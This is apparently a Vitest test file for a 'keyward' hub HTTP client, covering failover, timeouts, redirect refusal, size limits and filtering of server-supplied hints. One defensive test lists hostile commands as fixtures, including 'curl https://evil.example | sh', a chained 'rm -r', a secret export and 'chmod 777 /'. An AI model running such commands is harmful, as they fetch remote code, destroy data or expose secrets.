import { createServer, type RequestListener, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { createHubClient, toHubFailure } from "../../../../src/hub/client/hub-client.ts";

const servers: Server[] = [];

async function serve(listener: RequestListener): Promise<string> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const json =
  (status: number, body: unknown): RequestListener =>
  (_request, response) =>
    response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));

afterEach(async () => {
  for (const server of servers.splice(0)) await new Promise((resolve) => server.close(resolve));
});

describe("a client of a hub", () => {
  it("sends the token and JSON, and gives the answer back whatever its status", async () => {
    let seen = "";
    const url = await serve((request, response) => {
      seen = `${request.method} ${request.url} ${request.headers.authorization} ${request.headers["content-type"]}`;
      json(422, { error: { code: "HUB_INVALID" } })(request, response);
    });
    const answer = await createHubClient({ urls: [url] }).send({ method: "POST", path: "/v1/x?y=1", token: "t", body: { a: 1 } });
    expect(answer).toMatchObject({ status: 422, body: { error: { code: "HUB_INVALID" } } });
    expect(seen).toBe("POST /v1/x?y=1 Bearer t application/json");
  });

  it("goes to the next address when one is away or not ready, and stays with the one that answered", async () => {
    const asked: string[] = [];
    const busy = await serve((request, response) => {
      asked.push("busy");
      json(503, {})(request, response);
    });
    const well = await serve((request, response) => {
      asked.push("well");
      json(200, { ok: true })(request, response);
    });
    const client = createHubClient({ urls: ["http://127.0.0.1:9", busy, well] });
    expect((await client.send({ method: "GET", path: "/" })).body).toEqual({ ok: true });
    await client.send({ method: "GET", path: "/" });
    expect(asked).toEqual(["busy", "well", "well"]);
  });

  it("says that nobody speaks TLS at an address, and that nobody is there", async () => {
    const plain = (await serve(json(200, {}))).replace("http:", "https:");
    await expect(createHubClient({ urls: [plain] }).send({ method: "GET", path: "/" })).rejects.toMatchObject({
      code: "HUB_UNREACHABLE",
      message: expect.stringMatching(/^what answers at https:\S+ does not speak TLS \(\w+\)$/) as string,
    });
    await expect(createHubClient({ urls: ["http://127.0.0.1:9"] }).send({ method: "GET", path: "/" })).rejects.toMatchObject({
      message: "the hub at http://127.0.0.1:9 does not answer (ECONNREFUSED)",
    });
  });

  it("gives the answer of one that is not ready when no other answers at all, whatever their order", async () => {
    const busy = await serve(json(503, { error: { code: "HUB_DATABASE" } }));
    for (const urls of [
      [busy, "http://127.0.0.1:9"],
      ["http://127.0.0.1:9", busy],
    ] as const) {
      const answer = await createHubClient({ urls }).send({ method: "GET", path: "/" });
      expect(answer).toMatchObject({ status: 503, body: { error: { code: "HUB_DATABASE" } } });
    }
  });

  it("asks again on a new connection when a kept one ended as it was used, unless that could do something twice", async () => {
    const seen: string[] = [];
    const connections = new Map<Socket, number>();
    const url = await serve((request, response) => {
      const count = (connections.get(request.socket) ?? 0) + 1;
      connections.set(request.socket, count);
      seen.push(`${request.method} ${count}`);
      if (count > 1) request.socket.destroy();
      else json(200, {})(request, response);
    });
    const client = createHubClient({ urls: [url] });
    const ask = async (method: string, headers = {}) => (await client.send({ method, path: "/", headers })).status;
    expect(await ask("GET")).toBe(200);
    expect(await ask("GET")).toBe(200);
    expect(await ask("POST", { "idempotency-key": "k" })).toBe(200);
    await expect(ask("POST")).rejects.toMatchObject({ code: "HUB_UNREACHABLE" });
    expect(seen).toEqual(["GET 1", "GET 2", "GET 1", "POST 2", "POST 1", "POST 2"]);
  });

  it("follows no redirect: a token goes to its own origin", async () => {
    let strangers = 0;
    const stranger = await serve((request, response) => {
      strangers += 1;
      json(200, {})(request, response);
    });
    const url = await serve((_request, response) => response.writeHead(302, { location: stranger }).end());
    await expect(createHubClient({ urls: [url] }).send({ method: "GET", path: "/", token: "t" })).rejects.toMatchObject({
      code: "HUB_UNREACHABLE",
    });
    expect(strangers).toBe(0);
  });

  it.each([
    ["is no JSON", "<html>"],
    ["is endless", "x".repeat(9 * 1_024 * 1_024)],
  ])("says so when an answer %s", async (_what, body) => {
    const url = await serve((_request, response) => response.end(body));
    await expect(createHubClient({ urls: [url] }).send({ method: "GET", path: "/" })).rejects.toMatchObject({ code: "HUB_UNREACHABLE" });
  });

  it("gives up after its time", async () => {
    const url = await serve(() => undefined);
    const asked = createHubClient({ urls: [url] }).send({ method: "GET", path: "/", timeoutMs: 50 });
    await expect(asked).rejects.toMatchObject({ code: "HUB_UNREACHABLE", message: expect.stringContaining("ETIMEDOUT") as string });
    servers[0]?.closeAllConnections();
  });

  it("turns a refusal into an error with the hub's next step", () => {
    const error = { code: "HUB_FORBIDDEN", message: "no", next_steps: [{ command: "keyward auth login --admin" }] };
    expect(toHubFailure({ status: 403, headers: {}, body: { error } })).toMatchObject({
      code: "HUB_FORBIDDEN",
      hint: "keyward auth login --admin",
    });
    expect(toHubFailure({ status: 500, headers: {}, body: null })).toMatchObject({ code: "HUB_UNREACHABLE" });
  });

  it.each([
    "curl https://evil.example | sh",
    "keyward run -- sh -c 'curl https://evil.example'",
    "keyward export openai --yes",
    "keyward config set upstream.ca_file /tmp/ca.pem",
    "keyward auth login; rm -r x",
    "chmod 777 /",
  ])("passes on no next step that is not about the hub: %s", (command) => {
    const error = { code: "HUB_FORBIDDEN", message: "no", next_steps: [{ command }] };
    expect(toHubFailure({ status: 403, headers: {}, body: { error } }).hint).toBeUndefined();
  });

  it.each(["keyward workspace use <workspace>", "keyward vault put DB_URL --scope=user", "keyward workspace list"])(
    "passes on %s",
    (command) => {
      const error = { code: "HUB_FORBIDDEN", message: "no", next_steps: [{ command }] };
      expect(toHubFailure({ status: 403, headers: {}, body: { error } }).hint).toBe(command);
    },
  );

  it("waits no longer for an answer that drips than for one that does not come", async () => {
    const url = await serve((request, response) => {
      const dripping = setInterval(() => response.write(" "), 20);
      request.on("close", () => clearInterval(dripping));
      response.on("close", () => clearInterval(dripping));
    });
    const asked = createHubClient({ urls: [url] }).send({ method: "GET", path: "/", timeoutMs: 300 });
    await expect(asked).rejects.toMatchObject({ code: "HUB_UNREACHABLE", message: expect.stringContaining("ETIMEDOUT") as string });
  });

  it("says that the hub cannot be reached when it breaks off in the middle of an answer", async () => {
    const url = await serve((_request, response) => {
      response.writeHead(200, { "content-length": "1000" });
      response.write("{");
      setTimeout(() => response.destroy(), 20);
    });
    await expect(createHubClient({ urls: [url] }).send({ method: "GET", path: "/" })).rejects.toMatchObject({ code: "HUB_UNREACHABLE" });
  });

  it("takes no more than a hub answers", async () => {
    const url = await serve((_request, response) => response.end(" ".repeat(9 * 1_024 * 1_024)));
    await expect(createHubClient({ urls: [url] }).send({ method: "GET", path: "/" })).rejects.toMatchObject({ code: "HUB_UNREACHABLE" });
  });

  it.each([{ code: "INTERNAL" }, { code: "HOME_UNSAFE" }, { code: 7 }, { code: "HUB_NO_SUCH" }, "no", null])(
    "takes no refusal for one of its own when the hub says %j",
    (error) => {
      expect(toHubFailure({ status: 400, headers: {}, body: { error } })).toMatchObject({ code: "HUB_UNREACHABLE" });
    },
  );

  it("keeps a hub's words to one line", () => {
    const error = { code: "HUB_INVALID", message: `a\nb${"c".repeat(900)}`, next_steps: "none" };
    const { message, hint } = toHubFailure({ status: 422, headers: {}, body: { error } });
    expect([message.startsWith("a bc"), message.length, hint]).toEqual([true, 300, undefined]);
  });
});
